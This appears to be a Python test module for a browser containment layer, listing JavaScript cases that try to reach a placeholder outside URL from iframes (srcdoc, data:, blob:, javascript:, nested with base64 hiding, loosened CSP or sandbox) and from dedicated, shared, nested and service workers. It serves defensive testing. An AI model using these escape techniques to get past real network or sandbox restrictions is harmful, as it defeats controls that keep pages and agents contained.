"""Attacks from a document or a worker within the document."""

from tests.browser.wall.case import Case, Line

INNER = """
const inner = document.createElement('iframe');
const page = '<img src="$URL/a.png"><script>fetch("$URL/f")</scr' + 'ipt>';
"""
SHOW = "document.body.append(inner); await wait(500);"


def frame(name, must_not, script, body="", **rest):
    return Case(name, Line.FRAMES, must_not, script, body, **rest)


def worker(name, must_not, script, **rest):
    return Case(name, Line.WORKERS, must_not, script, **rest)


def blob(source, options="", kind="Worker"):
    return f"""
    const source = `{source}`;
    const address = URL.createObjectURL(new Blob([source], {{ type: 'text/javascript' }}));
    new {kind}(address{options});
    await wait(600);
    """


CASES = (
    frame(
        "frame-url", "frame another site", "await wait(300);", "<iframe src='$URL/a.html'></iframe>"
    ),
    frame("frame-srcdoc", "call out from srcdoc", INNER + "inner.srcdoc = page;" + SHOW),
    frame(
        "frame-data",
        "call out from a data: frame",
        INNER + "inner.src = 'data:text/html,' + encodeURIComponent(page);" + SHOW,
    ),
    frame(
        "frame-blob",
        "call out from a blob: frame",
        INNER + "inner.src = URL.createObjectURL(new Blob([page], { type: 'text/html' }));" + SHOW,
    ),
    frame(
        "frame-blank",
        "call out with an empty frame's own fetch",
        INNER + "document.body.append(inner); await inner.contentWindow.fetch('$URL/f');",
    ),
    frame(
        "frame-javascript",
        "call out from a javascript: frame",
        INNER + """inner.src = 'javascript:"<img src=$URL/a.png>"';""" + SHOW,
    ),
    frame(
        "frame-grandchild",
        "call out from a frame in a frame",
        INNER
        + """
        const hidden = btoa(page);
        inner.srcdoc = '<script>const f = document.createElement("iframe"); f.srcdoc = atob("' +
          hidden + '"); document.documentElement.append(f)</scr' + 'ipt>';
        """
        + SHOW,
    ),
    frame(
        "frame-csp-attribute",
        "loosen the policy for a frame of its own",
        INNER + """inner.csp = "default-src * 'unsafe-inline'"; inner.srcdoc = page;""" + SHOW,
    ),
    frame(
        "frame-unsandboxed",
        "give a frame of its own more rights",
        INNER
        + "inner.sandbox = 'allow-scripts allow-same-origin allow-popups allow-top-navigation';"
        + "inner.srcdoc = page;"
        + SHOW,
    ),
    frame(
        "fenced-frame",
        "use a fenced frame",
        """
        const fenced = document.createElement('fencedframe');
        fenced.config = new FencedFrameConfig('$URL/a.html');
        document.body.append(fenced);
        await wait(500);
        """,
        cannot_show={
            "chromium": "it is not on by default",
            "firefox": "the browser does not have it",
        },
    ),
    worker("worker-fetch", "fetch from a worker", blob("fetch('$URL/f')")),
    worker("worker-import", "import in a worker", blob("importScripts('$URL/a.js')")),
    worker(
        "worker-module",
        "import in a module worker",
        blob("import '$URL/a.js'", ", { type: 'module' }"),
    ),
    worker(
        "worker-xhr",
        "ask from a worker by XMLHttpRequest",
        blob("const x = new XMLHttpRequest(); x.open('GET', '$URL/x', false); x.send()"),
    ),
    worker("worker-socket", "open a WebSocket from a worker", blob("new WebSocket('$WS/s')")),
    worker(
        "worker-nested",
        "fetch from a worker in a worker",
        blob(
            "new Worker(URL.createObjectURL(new Blob([\\`fetch('$URL/f')\\`],"
            " { type: 'text/javascript' })))"
        ),
    ),
    worker(
        "worker-data",
        "fetch from a data: worker",
        """
        new Worker('data:text/javascript,' + encodeURIComponent("fetch('$URL/f')"));
        await wait(600);
        """,
    ),
    worker(
        "worker-url",
        "run a worker from elsewhere",
        "new Worker('$URL/a.js'); await wait(300);",
        cannot_show={
            "chromium": "only from the same origin",
            "firefox": "only from the same origin",
        },
    ),
    worker(
        "worker-shared", "fetch from a shared worker", blob("fetch('$URL/f')", kind="SharedWorker")
    ),
    Case(
        "service-worker",
        Line.HISTORY,
        "register a service worker",
        """
        await navigator.serviceWorker.register('/sw.js');
        await navigator.serviceWorker.ready;
        await fetch('$URL/registered');
        """,
    ),
)
